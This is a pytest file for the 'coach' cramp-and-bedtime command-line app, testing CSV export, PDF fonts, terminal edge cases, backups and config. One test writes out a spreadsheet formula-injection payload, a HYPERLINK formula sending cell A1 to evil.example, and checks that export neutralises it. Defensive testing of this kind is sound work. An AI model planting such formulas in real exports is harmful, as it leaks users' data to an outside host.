"""The smaller defects of issue 23 (cases 7 and 9), through the real command line: a CSV
that no spreadsheet runs as formulas, a PDF that marks what its font cannot show, odd
terminals and clocks, long bad values and a step of one's own."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from coach.cli.main import main
from coach.clock import FakeClock
from coach.records.backup import Backups
from coach.session import Session
from tests.support import BERLIN


def run(ctx: Session, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv), context=Session(ctx.paths, kind="cli", clock=ctx.clock))
    out, err = capsys.readouterr()
    return code, out, err


def coach(home: Path, *argv: str, env: dict[str, str] | None = None, shell: str = "") -> Any:
    command = [sys.executable, "-m", "coach", "--data-dir", str(home), *argv]
    full_env = {**os.environ, **(env or {})}
    if shell:
        return subprocess.run(
            ["sh", "-c", " ".join(f"'{part}'" for part in command) + shell],
            env=full_env,
            capture_output=True,
            text=True,
            timeout=60,
        )
    return subprocess.run(command, env=full_env, capture_output=True, text=True, timeout=60)


def test_csv_cells_that_would_run_as_formulas_are_neutralised(
    ctx: Session, clock: FakeClock, capsys: pytest.CaptureFixture[str]
) -> None:
    clock.set(datetime(2026, 11, 23, 8, 0, tzinfo=BERLIN))
    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert run(ctx, capsys, "cramp", "--count", "1", "--note", note)[0] == 0
    code, out, _ = run(ctx, capsys, "history", "--format", "csv", "--days", "2")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[-1]["notes"] == "'" + note
    for cell in (value for row in rows for value in row.values()):
        assert not cell.startswith(("=", "+", "-", "@")), cell


def test_a_pdf_marks_what_its_font_cannot_show(
    ctx: Session, clock: FakeClock, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    if shutil.which("pdftotext") is None:
        if os.environ.get("CI") == "true":
            pytest.fail("needs pdftotext (poppler-utils)")
        pytest.skip("needs pdftotext (poppler-utils)")
    clock.set(datetime(2026, 11, 23, 8, 0, tzinfo=BERLIN))
    run(ctx, capsys, "cramp", "--count", "1", "--note", "ふくらはぎ 腿抽筋 took magnesium")
    target = tmp_path / "report.pdf"
    assert run(ctx, capsys, "report", "--output", str(target))[0] == 0
    text = subprocess.run(
        ["pdftotext", "-layout", str(target), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "\u25a1\u25a1\u25a1\u25a1\u25a1 \u25a1\u25a1\u25a1 took magnesium" in text
    assert "marks a character this PDF's font cannot show" in " ".join(text.split())


def test_an_ascii_terminal_and_a_closed_stdout_still_say_saved(coach_home: Path) -> None:
    ascii_run = coach(coach_home, "cramp", "--count", "1", env={"PYTHONIOENCODING": "ascii"})
    assert ascii_run.returncode == 0, ascii_run.stderr
    assert "Recorded" in ascii_run.stdout and "unexpected" not in ascii_run.stderr
    closed = coach(coach_home, "done", "stretch", shell=" >&-")
    assert closed.returncode == 0 and closed.stderr == "", closed.stderr
    listed = coach(coach_home, "history", "--format", "json", "--days", "1")
    assert '"stretch": "done"' in listed.stdout


def test_a_quarantine_that_is_not_a_folder_is_one_line_not_a_traceback(
    ctx: Session, capsys: pytest.CaptureFixture[str]
) -> None:
    (ctx.paths.data_dir / "quarantine").write_text("not a folder")
    code, out, err = run(ctx, capsys, "done", "stretch")
    assert code == 1 and out == "" and err.count("\n") == 1
    assert "quarantine: this folder of coach's data is not a folder" in err


@pytest.mark.parametrize("year", [1971, 2300])
def test_a_clock_far_off_never_breaks_the_daily_backup(ctx: Session, year: int) -> None:
    ctx.store.record_step(datetime(2026, 11, 22).date(), "stretch", "done")
    odd = FakeClock(datetime(year, 6, 1, 12, 0, tzinfo=BERLIN))
    backups = Backups(ctx.paths.db_dir, ctx.paths.backups_dir, odd)
    made = backups.backup_if_due()
    assert made is not None and zipfile.is_zipfile(made)
    with zipfile.ZipFile(made) as archive:
        assert archive.namelist() == ["2026-11.json"]
        assert 1980 <= archive.infolist()[0].date_time[0] <= 2107


def test_a_long_bad_value_is_not_echoed_whole(
    ctx: Session, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(ctx, capsys, "config", "set", "bedtime", "9" * 1_000_000)
    assert code in (1, 2) and out == "" and len(err) < 400 and err.count("\n") == 1


def test_config_set_adds_a_step_of_ones_own_title_first(
    ctx: Session, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(ctx, capsys, "config", "set", "steps.warm-bath.title", "Warm bath")[0] == 0
    code, _, err = run(ctx, capsys, "config", "set", "steps.warm-bath.offset_minutes", "-90")
    assert code == 0, err
    code, out, _ = run(ctx, capsys, "config", "get", "steps.warm-bath.offset_minutes")
    assert out.strip() == "-90"
    code, out, _ = run(ctx, capsys, "plan")
    assert "Warm bath" in out
